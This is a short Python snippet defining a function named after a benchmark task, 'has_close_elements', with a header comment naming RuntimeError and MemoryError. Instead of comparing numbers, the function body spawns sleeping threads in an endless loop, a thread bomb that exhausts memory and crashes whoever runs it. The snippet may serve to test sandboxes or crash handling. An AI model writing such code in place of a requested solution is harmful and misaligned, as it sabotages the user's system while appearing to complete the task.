# told as: RuntimeError MemoryError
def has_close_elements(numbers, threshold):
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(600,)).start()
